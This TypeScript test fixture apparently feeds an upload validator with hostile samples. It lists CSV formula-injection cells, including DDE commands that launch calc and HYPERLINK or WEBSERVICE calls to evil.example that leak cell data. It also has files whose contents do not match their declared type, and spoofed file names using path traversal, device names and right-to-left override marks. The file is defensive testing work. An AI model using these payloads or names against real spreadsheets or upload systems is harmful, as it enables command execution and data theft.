import type { FindingCode } from '@concert/domain/artefact/finding-codes'
import { pdfFile } from '../files/pdf-file.ts'
import { pngFile } from '../files/image-file.ts'
import { allAs, type Hostile, type HostileFile } from './hostile-file.ts'

const cells: readonly string[] = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1)',
  '"=WEBSERVICE(""http://evil.example"")"',
  '@SUM(1+1)*cmd|x',
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!D2`,
  '＝1+1',
  '  =1+1',
  `'=1+1`,
  '-IMPORTXML("http://evil.example")',
]

const tables: readonly Hostile[] = [
  ...cells.map((cell): Hostile => [`has the cell ${cell}`, `name,value\nrecall,${cell}\n`, 'formula-in-cell']),
  ['has a formula after a tab', 'recall\t=1+1\n', 'formula-in-cell'],
  ['has a formula after a semicolon', 'recall;=1+1\n', 'formula-in-cell'],
  ['has a formula in its last line', 'a\n=A1', 'formula-in-cell'],
  [
    'has a formula in UTF-16',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('a,=1+1\n', 'utf16le')]),
    'formula-in-cell',
  ],
  ['has a formula among signs of GBK', Buffer.from('d0d5c3fb2c3d312b310a', 'hex'), 'formula-in-cell'],
  ['is read as another format', 'ID;PWXL;N;E\nC;Y1;X1;E1+1\n', 'formula-in-cell'],
]

const types: readonly (readonly [
  fileName: string,
  mediaType: string,
  content: Buffer | string,
  because: FindingCode,
])[] = [
  ['report.pdf', 'application/pdf', Buffer.alloc(0), 'file-empty'],
  ['report.pdf', 'application/pdf', 'no pdf', 'type-differs'],
  ['report.pdf', 'application/pdf', pngFile(8, 8), 'type-differs'],
  ['scan.png', 'image/png', pdfFile(), 'type-differs'],
  ['notes.txt', 'text/plain', '<!doctype html><p>x', 'type-differs'],
  ['notes.txt', 'text/plain', pdfFile(), 'type-differs'],
  ['notes.txt', 'text/plain', Buffer.from([0, 1, 2, 3]), 'type-unknown'],
  ['notes.txt', 'text/plain', Buffer.concat([Buffer.alloc(5_000, 'a'), Buffer.alloc(5)]), 'type-unknown'],
  ['notes.txt', 'text/plain', '{\\rtf1 x}', 'type-not-accepted'],
  ['notes.txt', 'text/plain', Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0', 'latin1'), 'type-not-accepted'],
  ['tool.exe', 'application/x-msdownload', Buffer.from('MZ\x90\0\x03', 'latin1'), 'type-not-accepted'],
  ['model.gguf', 'application/octet-stream', Buffer.from('GGUF\x03\0\0\0\x01\0\0\0', 'latin1'), 'model-weights'],
  ['weights.txt', 'text/plain', Buffer.from('\x80\x04\x95\x0b\0\0\0\0\0\0\0\x8c\x01x.', 'latin1'), 'model-weights'],
  ['evidence.7z', 'application/x-7z-compressed', Buffer.from('377abcaf271c0004', 'hex'), 'type-not-accepted'],
  ['evidence.gz', 'application/gzip', Buffer.from('1f8b080000000000', 'hex'), 'type-not-accepted'],
  ['evidence.rar', 'application/vnd.rar', Buffer.from('526172211a0700', 'hex'), 'type-not-accepted'],
  ['film.mp4', 'video/mp4', Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42', 'latin1'), 'type-not-accepted'],
  ['weights', 'application/octet-stream', Buffer.from([1, 2, 3, 0]), 'type-unknown'],
  [
    'old.doc',
    'application/msword',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    'type-not-accepted',
  ],
]

const names: readonly (readonly [fileName: string, because: FindingCode])[] = [
  ['report.pdf.exe', 'extension-executable'],
  ['report.pdf.js', 'extension-executable'],
  ['report.pdf．exe', 'extension-executable'],
  ['report.scr', 'extension-executable'],
  ['shell.php.pdf', 'extension-hidden'],
  ['report.exe.pdf', 'extension-hidden'],
  ['report', 'extension-differs'],
  ['report.docx', 'extension-differs'],
  ['CON.pdf', 'name-of-device'],
  ['nul', 'name-of-device'],
  ['com1.report.pdf', 'name-of-device'],
  ['LPT³.pdf', 'name-of-device'],
  ['conout$.pdf', 'name-of-device'],
  ['../../report.pdf', 'name-is-path'],
  [String.raw`..\report.pdf`, 'name-is-path'],
  ['/etc/report.pdf', 'name-is-path'],
  ['C:report.pdf', 'name-is-path'],
  ['report.pdf:hidden.exe', 'name-is-path'],
  ['report\u202Efdp.exe', 'name-has-marks'],
  ['report\u200B.pdf', 'name-has-marks'],
  ['rep\u0000ort.pdf', 'name-has-marks'],
  ['report\r\nx.pdf', 'name-has-marks'],
  ['天水圍\uE005業.pdf', 'name-has-marks'],
  ['香港\uFFFD公司.pdf', 'name-has-marks'],
  ['report.pdf.', 'name-ends-blank'],
  ['report.pdf ', 'name-ends-blank'],
  ['', 'name-empty'],
  ['..', 'name-empty'],
]

export const hostileTextsAndNames: readonly HostileFile[] = [
  ...allAs('results.csv', 'text/csv', tables),
  ...types.flatMap(([fileName, mediaType, content, because]) =>
    allAs(fileName, mediaType, [[`is ${mediaType} with other content`, content, because]]),
  ),
  ...names.flatMap(([fileName, because]) =>
    allAs(fileName, 'application/pdf', [[`is called ${JSON.stringify(fileName)}`, pdfFile(), because]]),
  ),
]
